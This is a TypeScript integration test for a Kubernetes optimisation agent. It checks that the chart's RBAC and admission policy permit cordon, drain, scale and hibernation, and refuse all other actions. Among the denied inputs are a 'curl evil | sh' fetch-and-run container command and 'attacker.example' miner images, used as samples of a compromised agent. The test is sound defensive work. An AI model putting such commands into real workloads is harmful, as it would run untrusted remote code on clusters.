/**
 * The chart's RBAC is enough, and no more: the real agent runs in-process with a token of the
 * chart's ServiceAccount (TokenRequest) and nothing else, completes cordon, drain, scale and a
 * hibernation sleep/wake, and the same identity is refused what the agent never does. The
 * chart's ValidatingAdmissionPolicy is installed too (the real API server evaluates its CEL):
 * it lets the hibernation through and denies the same identity a pod-template patch.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  AppsV1Api,
  AuthenticationV1Api,
  AuthorizationV1Api,
  BatchV1Api,
  CoreV1Api,
  CustomObjectsApi,
  KubeConfig,
  PatchStrategy,
  setHeaderOptions,
} from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentNamespaceLabel } from '../../src/controllers/hibernation/controller.ts';
import { isConflict } from '../../src/kube/api-errors.ts';
import { installCrds } from '../../src/kube/install-crds.ts';
import { type AgentStack, startAgentStack } from '../support/agent.ts';
import { type ChartIdentity, installChartIdentity } from '../support/chart-identity.ts';
import {
  createDeployment,
  createKwokNodes,
  createNamespace,
  deleteNamespace,
  deleteNodes,
  loadTestKubeConfig,
  uniqueName,
  waitFor,
  waitForDeploymentReady,
} from '../support/kube.ts';

const kc = loadTestKubeConfig();
const core = kc.makeApiClient(CoreV1Api);
const apps = kc.makeApiClient(AppsV1Api);
const authz = kc.makeApiClient(AuthorizationV1Api);
const batch = kc.makeApiClient(BatchV1Api);
const custom = kc.makeApiClient(CustomObjectsApi);
const schedulesApi = { group: 'clusteropt.io', version: 'v1alpha1', plural: 'hibernationschedules' };

describe('the agent with exactly the chart RBAC', () => {
  const release = uniqueName('rbac');
  let identity: ChartIdentity | undefined;
  const serviceAccount = `${release}-clusteropt-agent`;
  const group = uniqueName('rbac-grp');
  const nodes = [uniqueName('rbac'), uniqueName('rbac')];
  const schedule = uniqueName('rbac-hib');
  const dir = mkdtempSync(join(tmpdir(), 'clusteropt-rbac-'));
  let ns = '';
  let workloads = '';
  let saKubeconfig = '';
  let stack: AgentStack | undefined;

  beforeAll(async () => {
    await installCrds(kc);
    ns = await createNamespace(kc, 'rbac-agent');
    workloads = await createNamespace(kc, 'rbac-wl');
    // The release's RBAC and ServiceAccount only: no agent pods, the agent under test runs in
    // this process with the ServiceAccount's token.
    identity = await installChartIdentity(kc, { release, namespace: ns, dir });
    saKubeconfig = identity.kubeconfigPath;
    await createKwokNodes(kc, nodes, { labels: { 'clusteropt.io/group': group } });
    stack = await startAgentStack({ namespace: ns, config: { kubeconfig: saKubeconfig } });
    await waitFor(() => stack?.agent.isLeader(), {
      what: 'agent to lead with the ServiceAccount',
      timeoutMs: 30_000,
    });
  });

  afterAll(async () => {
    await stack?.stop();
    await custom.deleteClusterCustomObject({ ...schedulesApi, name: schedule }).catch(() => undefined);
    await deleteNodes(kc, nodes);
    identity?.uninstall();
    await deleteNamespace(kc, ns);
    await deleteNamespace(kc, workloads);
    rmSync(dir, { recursive: true, force: true });
  });

  it('the in-process agent really uses the ServiceAccount token', async () => {
    const sa = new KubeConfig();
    sa.loadFromFile(saKubeconfig);
    const review = await sa.makeApiClient(AuthenticationV1Api).createSelfSubjectReview({ body: {} });
    expect(review.status?.userInfo?.username).toBe(`system:serviceaccount:${ns}:${serviceAccount}`);
  });

  it('cordons, drains and scales', async () => {
    if (!stack) throw new Error('agent not started');
    await createDeployment(kc, workloads, 'web', {
      replicas: 4,
      podSpec: {
        nodeSelector: { 'clusteropt.io/group': group },
        containers: [{ name: 'web', image: 'registry.invalid/web:1' }],
      },
    });
    await waitForDeploymentReady(kc, workloads, 'web', 4);
    const podsOn = async (node: string) =>
      (
        await core.listNamespacedPod({ namespace: workloads, fieldSelector: `spec.nodeName=${node}` })
      ).items.filter((p) => !p.metadata?.deletionTimestamp).length;
    const [victim, other] = (await Promise.all(nodes.map(async (n) => [n, await podsOn(n)] as const)))
      .sort((a, b) => b[1] - a[1])
      .map(([n]) => n) as [string, string];
    expect(await podsOn(victim)).toBeGreaterThan(0);

    const cordon = await stack.enqueue('cordon_node', { nodeName: victim });
    const cordoned = await stack.waitForState(cordon, ['succeeded', 'failed', 'rejected']);
    expect(cordoned.state, cordoned.message ?? '').toBe('succeeded');
    expect((await core.readNode({ name: victim })).spec?.unschedulable).toBe(true);

    const drain = await stack.enqueue('drain_node', { nodeName: victim, timeoutSeconds: 60 });
    const drained = await stack.waitForState(drain, ['succeeded', 'failed', 'rejected'], 90_000);
    expect(drained.state, drained.message ?? '').toBe('succeeded');
    expect(await podsOn(victim)).toBe(0);
    await waitForDeploymentReady(kc, workloads, 'web', 4);
    expect(await podsOn(other)).toBe(4);

    const scale = await stack.enqueue('scale_workload', {
      namespace: workloads,
      kind: 'Deployment',
      name: 'web',
      replicas: 2,
      expectedReplicas: 4,
    });
    const scaled = await stack.waitForState(scale, ['succeeded', 'failed', 'rejected']);
    expect(scaled.state, scaled.message ?? '').toBe('succeeded');
    expect((await apps.readNamespacedDeployment({ name: 'web', namespace: workloads })).spec?.replicas).toBe(
      2,
    );

    // Events were recorded with the same identity (events create): one on the node.
    const events = await waitFor(
      async () => {
        const list = await core.listNamespacedEvent({
          namespace: 'default',
          fieldSelector: `involvedObject.name=${victim}`,
        });
        const ours = list.items.filter((e) => e.reportingComponent === 'clusteropt-agent');
        return ours.length > 0 ? ours : undefined;
      },
      { what: `agent events on node ${victim}` },
    );
    expect(events.length).toBeGreaterThan(0);
  });

  it('puts workloads to sleep and wakes them (sync_hibernation_schedule, HibernationSchedule controller)', async () => {
    if (!stack) throw new Error('agent not started');
    await core.patchNamespace(
      { name: workloads, body: { metadata: { labels: { 'rbac-hibernation': schedule } } } },
      setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
    );
    await batch.createNamespacedCronJob({
      namespace: workloads,
      body: {
        metadata: { name: 'report' },
        spec: {
          schedule: '0 3 * * *',
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  restartPolicy: 'Never',
                  containers: [{ name: 'r', image: 'registry.invalid/report:1' }],
                },
              },
            },
          },
        },
      },
    });
    const before = (await apps.readNamespacedDeployment({ name: 'web', namespace: workloads })).spec
      ?.replicas;
    expect(before).toBeGreaterThan(0);
    // Created awake and pinned to this agent's namespace, so agents of other test runs in the
    // shared cluster leave it alone; the agent then updates it from the control plane.
    await custom.createClusterCustomObject({
      ...schedulesApi,
      body: {
        apiVersion: 'clusteropt.io/v1alpha1',
        kind: 'HibernationSchedule',
        metadata: { name: schedule, labels: { [agentNamespaceLabel]: ns } },
        spec: {
          timezone: 'UTC',
          matrix: '0'.repeat(168),
          namespaceSelector: { matchLabels: { 'rbac-hibernation': schedule } },
        },
      },
    });
    // Asleep for a few seconds by override, then the matrix (always awake) wakes everything.
    const until = new Date(Date.now() + 12_000).toISOString();
    const id = await stack.enqueue('sync_hibernation_schedule', {
      name: schedule,
      timezone: 'UTC',
      matrix: new Array(168).fill(false),
      namespaceSelector: { matchLabels: { 'rbac-hibernation': schedule } },
      kinds: ['Deployment', 'CronJob'],
      override: { state: 'asleep', until, reason: 'rbac test' },
    });
    const synced = await stack.waitForState(id, ['succeeded', 'failed', 'rejected']);
    expect(synced.state, synced.message ?? '').toBe('succeeded');
    expect(synced.result).toMatchObject({ operation: 'updated' });
    const scheduleState = async () =>
      (
        (await custom.getClusterCustomObject({ ...schedulesApi, name: schedule })) as {
          status?: { state?: string };
        }
      ).status?.state;
    await waitFor(
      async () =>
        (await apps.readNamespacedDeployment({ name: 'web', namespace: workloads })).spec?.replicas === 0 &&
        (await batch.readNamespacedCronJob({ name: 'report', namespace: workloads })).spec?.suspend ===
          true &&
        (await scheduleState()) === 'Asleep',
      { what: 'web at 0 replicas, report suspended, schedule Asleep', timeoutMs: 30_000 },
    );
    await waitFor(
      async () =>
        (await apps.readNamespacedDeployment({ name: 'web', namespace: workloads })).spec?.replicas ===
          before &&
        (await batch.readNamespacedCronJob({ name: 'report', namespace: workloads })).spec?.suspend !==
          true &&
        (await scheduleState()) === 'Awake',
      { what: `web back at ${before} replicas, report resumed, schedule Awake`, timeoutMs: 60_000 },
    );
  });

  it('is refused what the agent never does', async () => {
    const sa = new KubeConfig();
    sa.loadFromFile(saKubeconfig);
    const saCore = sa.makeApiClient(CoreV1Api);
    const saApps = sa.makeApiClient(AppsV1Api);
    await core.createNamespacedSecret({
      namespace: workloads,
      body: { metadata: { name: 'db-password' }, stringData: { password: 'hunter2' } },
    });
    await expect(
      saCore.readNamespacedSecret({ name: 'db-password', namespace: workloads }),
    ).rejects.toMatchObject({
      code: 403,
    });
    await expect(saCore.listNamespacedSecret({ namespace: ns })).rejects.toMatchObject({ code: 403 });
    await expect(saCore.listNamespacedConfigMap({ namespace: workloads })).rejects.toMatchObject({
      code: 403,
    });
    await expect(
      saApps.deleteNamespacedDeployment({ name: 'web', namespace: workloads }),
    ).rejects.toMatchObject({
      code: 403,
    });
    await expect(
      saCore.createNamespacedPod({
        namespace: workloads,
        body: {
          metadata: { name: 'x' },
          spec: { containers: [{ name: 'x', image: 'registry.invalid/x:1' }] },
        },
      }),
    ).rejects.toMatchObject({ code: 403 });
  });

  it("the admission policy holds the agent's ServiceAccount to the fields it owns", async () => {
    const sa = new KubeConfig();
    sa.loadFromFile(saKubeconfig);
    const saApps = sa.makeApiClient(AppsV1Api);
    const saBatch = sa.makeApiClient(BatchV1Api);
    const patch = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
    await createDeployment(kc, workloads, 'guarded', {
      replicas: 1,
      labels: { app: 'guarded' },
      podSpec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
    });
    const patchDeployment = (body: object, client = saApps) =>
      client.patchNamespacedDeployment({ name: 'guarded', namespace: workloads, body }, patch);
    const denied = expect.objectContaining({
      body: expect.stringMatching(/ValidatingAdmissionPolicy .*owned-fields.* denied request/),
    });
    // Code execution by a compromised agent: a new image, a new command.
    const template = (container: object) => ({
      spec: { template: { spec: { containers: [{ name: 'app', ...container }] } } },
    });
    await expect(patchDeployment(template({ image: 'attacker.example/miner:1' }))).rejects.toEqual(denied);
    await expect(
      patchDeployment(template({ image: 'registry.invalid/app:1', command: ['sh', '-c', 'curl evil | sh'] })),
    ).rejects.toEqual(denied);
    await expect(patchDeployment({ spec: { replicas: 50 } })).rejects.toEqual(denied);
    await expect(patchDeployment({ metadata: { annotations: { team: 'x' } } })).rejects.toEqual(denied);
    // Removing an admin's do-not-disrupt is not the agent's to do either.
    await apps.patchNamespacedDeployment(
      {
        name: 'guarded',
        namespace: workloads,
        body: { metadata: { annotations: { 'clusteropt.io/do-not-disrupt': 'true' } } },
      },
      patch,
    );
    await expect(
      patchDeployment({ metadata: { annotations: { 'clusteropt.io/do-not-disrupt': null } } }),
    ).rejects.toEqual(denied);
    // What the agent does pass: its own marks, and replicas through /scale.
    await patchDeployment({
      metadata: {
        annotations: {
          'clusteropt.io/hibernation-restore': '{"schedule":"s","replicas":1,"at":"2026-01-01T00:00:00Z"}',
        },
        labels: { 'clusteropt.io/hibernated-by': 's' },
      },
    });
    // (read and replace, as the agent does: RBAC grants update on /scale, not patch; the
    // deployment controller may write the status in between, so a 409 reads again)
    for (let attempt = 1; ; attempt++) {
      const scale = await saApps.readNamespacedDeploymentScale({ name: 'guarded', namespace: workloads });
      try {
        await saApps.replaceNamespacedDeploymentScale({
          name: 'guarded',
          namespace: workloads,
          body: { ...scale, spec: { replicas: 0 } },
        });
        break;
      } catch (err) {
        if (!isConflict(err) || attempt >= 5) throw err;
      }
    }
    await patchDeployment({
      metadata: {
        annotations: { 'clusteropt.io/hibernation-restore': null },
        labels: { 'clusteropt.io/hibernated-by': null },
      },
    });
    const after = await apps.readNamespacedDeployment({ name: 'guarded', namespace: workloads });
    expect(after.spec?.replicas).toBe(0);
    expect(after.spec?.template.spec?.containers[0]?.image).toBe('registry.invalid/app:1');
    // An admin (not the agent) is not held by it.
    await patchDeployment(template({ image: 'registry.invalid/app:2' }), apps);
    // CronJobs: spec.suspend passes, the schedule or the job template does not.
    const cron = (body: object) =>
      saBatch.patchNamespacedCronJob({ name: 'report', namespace: workloads, body }, patch);
    await cron({ spec: { suspend: true } });
    await cron({ spec: { suspend: false } });
    await expect(cron({ spec: { schedule: '* * * * *' } })).rejects.toEqual(denied);
    await expect(
      cron({
        spec: {
          jobTemplate: {
            spec: { template: { spec: { containers: [{ name: 'r', image: 'attacker.example/x' }] } } },
          },
        },
      }),
    ).rejects.toEqual(denied);
  });

  it('authorizes exactly the documented verbs (SubjectAccessReview)', async () => {
    const user = `system:serviceaccount:${ns}:${serviceAccount}`;
    const can = async (
      verb: string,
      resource: string,
      options: { group?: string; namespace?: string; name?: string; subresource?: string } = {},
    ) => {
      const review = await authz.createSubjectAccessReview({
        body: {
          spec: {
            user,
            groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
            resourceAttributes: {
              verb,
              resource,
              group: options.group ?? '',
              ...(options.namespace ? { namespace: options.namespace } : {}),
              ...(options.name ? { name: options.name } : {}),
              ...(options.subresource ? { subresource: options.subresource } : {}),
            },
          },
        },
      });
      return review.status?.allowed === true;
    };
    const allowed: [string, string, Parameters<typeof can>[2]][] = [
      ['patch', 'nodes', {}],
      ['delete', 'nodes', {}],
      ['watch', 'pods', {}],
      ['create', 'pods', { subresource: 'eviction', namespace: workloads }],
      ['update', 'deployments', { group: 'apps', subresource: 'scale', namespace: workloads }],
      ['patch', 'cronjobs', { group: 'batch', namespace: workloads }],
      ['update', 'statefulsets', { group: 'apps', subresource: 'scale', namespace: workloads }],
      ['list', 'horizontalpodautoscalers', { group: 'autoscaling' }],
      ['watch', 'namespaces', {}],
      ['patch', 'hibernationschedules', { group: 'clusteropt.io', subresource: 'status' }],
      ['create', 'events', { namespace: 'default' }],
      ['watch', 'agentpolicies', { group: 'clusteropt.io' }],
      ['create', 'hibernationschedules', { group: 'clusteropt.io' }],
      ['create', 'agentactions', { group: 'clusteropt.io', namespace: ns }],
      ['patch', 'agentactions', { group: 'clusteropt.io', namespace: ns, subresource: 'status' }],
      ['update', 'leases', { group: 'coordination.k8s.io', namespace: ns, name: 'clusteropt-agent' }],
    ];
    const denied: [string, string, Parameters<typeof can>[2]][] = [
      ['get', 'secrets', { namespace: ns }],
      ['update', 'nodes', {}],
      ['create', 'nodes', {}],
      ['get', 'pods', { namespace: workloads }],
      // Only with rbac.forceDeleteAtBudgetEnd (off by default): drains evict, never delete.
      ['delete', 'pods', { namespace: workloads }],
      ['create', 'pods', { subresource: 'exec', namespace: workloads }],
      ['update', 'deployments', { group: 'apps', namespace: workloads }],
      ['delete', 'deployments', { group: 'apps', namespace: workloads }],
      ['patch', 'horizontalpodautoscalers', { group: 'autoscaling', namespace: workloads }],
      ['delete', 'hibernationschedules', { group: 'clusteropt.io' }],
      ['delete', 'namespaces', {}],
      ['delete', 'agentpolicies', { group: 'clusteropt.io' }],
      // The AgentActions and the Lease of another namespace.
      ['create', 'agentactions', { group: 'clusteropt.io', namespace: workloads }],
      ['update', 'leases', { group: 'coordination.k8s.io', namespace: ns, name: 'someone-elses-lease' }],
      [
        'update',
        'leases',
        { group: 'coordination.k8s.io', namespace: 'kube-system', name: 'clusteropt-agent' },
      ],
      ['escalate', 'clusterroles', { group: 'rbac.authorization.k8s.io' }],
    ];
    const wrong: string[] = [];
    for (const [verb, resource, options] of allowed) {
      if (!(await can(verb, resource, options)))
        wrong.push(`expected allowed: ${verb} ${resource} ${JSON.stringify(options)}`);
    }
    for (const [verb, resource, options] of denied) {
      if (await can(verb, resource, options))
        wrong.push(`expected denied: ${verb} ${resource} ${JSON.stringify(options)}`);
    }
    expect(wrong).toEqual([]);
  });
});
